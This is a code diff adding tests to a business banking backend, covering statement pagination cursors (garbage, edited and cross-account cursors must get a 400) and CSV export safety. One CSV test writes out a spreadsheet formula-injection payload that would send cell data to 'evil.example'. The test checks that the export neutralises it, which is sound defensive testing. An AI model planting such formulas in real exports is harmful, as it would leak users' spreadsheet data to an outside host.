@@ -7,6 +7,8 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { signIn } from '../../../test/auth.ts';
 import { createTestApp, type TestApp } from '../../../test/helpers.ts';
 import { seedMoney } from '../../db/seed-money.ts';
+import { systemAccountId } from '../../ledger/ids.ts';
+import { book } from '../../ledger/ledger.service.ts';
 
 const V1 = '/smebackend/api/v1';
 let t: TestApp;
@@ -119,6 +121,45 @@ describe('[STATEMENT] pages', () => {
   });
 });
 
+describe('[STATEMENT] page cursors', () => {
+  const b64 = (text: string) => Buffer.from(text).toString('base64url');
+
+  it('answers a garbage, edited or out-of-range cursor with a 400 naming the cursor, never a 500', async () => {
+    const first = (await page({ accountId: sgd._id, limit: 2 })).json() as TAccountStatementResponse;
+    const garbage = [
+      b64('e9999999999999999999'), // 19 digits, above int8
+      b64('e9223372036854775808'), // int8 max + 1
+      b64('e0'),
+      b64('e-5'),
+      b64('e007'),
+      `${first.nextCursor}!!`, // base64 decoding would skip the junk
+      'nonsense',
+      '',
+    ];
+    for (const cursor of garbage) {
+      const res = await page({ accountId: sgd._id, cursor });
+      expect(res.statusCode, cursor).toBe(400);
+      expect(res.json()).toEqual({
+        code: 'VALIDATION_ERROR',
+        message: 'This page cursor is not valid. Start again from the first page.',
+        errors: [{ field: 'cursor', message: 'This page cursor is not valid. Start again from the first page.' }],
+      });
+    }
+  });
+
+  it("refuses a well-formed cursor that names no entry of this account (another account's, or none)", async () => {
+    const usd = (
+      (await t.app.inject({ method: 'GET', url: `${V1}/settings/account/summary`, headers: sg })).json()
+        .accounts as TCurrencyAccount[]
+    ).find((a) => a.currency === 'USD')!;
+    const fromUsd = (await page({ accountId: usd._id, limit: 1 })).json().nextCursor as string;
+    expect((await page({ accountId: sgd._id, cursor: fromUsd })).statusCode).toBe(400);
+    expect((await page({ accountId: sgd._id, cursor: b64('e9223372036854775807') })).statusCode).toBe(400);
+    const own = (await page({ accountId: sgd._id, limit: 1 })).json().nextCursor as string;
+    expect((await page({ accountId: sgd._id, cursor: own })).statusCode).toBe(200);
+  });
+});
+
 describe('[STATEMENT] downloads', () => {
   it('CSV has the same rows, in the same order, as the screen', async () => {
     const res = await t.app.inject({
@@ -163,6 +204,33 @@ describe('[STATEMENT] downloads', () => {
     });
     expect(post.statusCode).toBe(200);
     expect(post.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
+  });
+
+  it('CSV neutralises a reference that a spreadsheet would run as a formula, and keeps amounts as numbers', async () => {
+    const reference = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")';
+    await t.db.tx((tx) =>
+      book(tx, [
+        {
+          id: randomUUID(),
+          debitAccountId: systemAccountId('SETTLEMENT', 'SGD'),
+          creditAccountId: sgd._id,
+          amount: 1_250n,
+          currency: 'SGD',
+          code: 'INCOMING_PAYMENT',
+          reference,
+        },
+      ]),
+    );
+    const res = await t.app.inject({
+      method: 'GET',
+      url: `${V1}/reports/accountStatement/download?format=csv&accountId=${sgd._id}`,
+      headers: sg,
+    });
+    const [, top] = Papa.parse<string[]>(res.body.trim()).data;
+    expect(top![STATEMENT_COLUMNS.indexOf('Reference')]).toBe(`'${reference}`);
+    expect(top![STATEMENT_COLUMNS.indexOf('Amount')]).toBe('12.50');
+    expect(top![STATEMENT_COLUMNS.indexOf('Balance')]).toMatch(/^\d[\d,]*\.\d{2}$/);
+    for (const cell of Papa.parse<string[]>(res.body.trim()).data.flat()) expect(cell).not.toMatch(/^[=+@\t\r]/);
   });
 
   it("refuses another business's account", async () => {
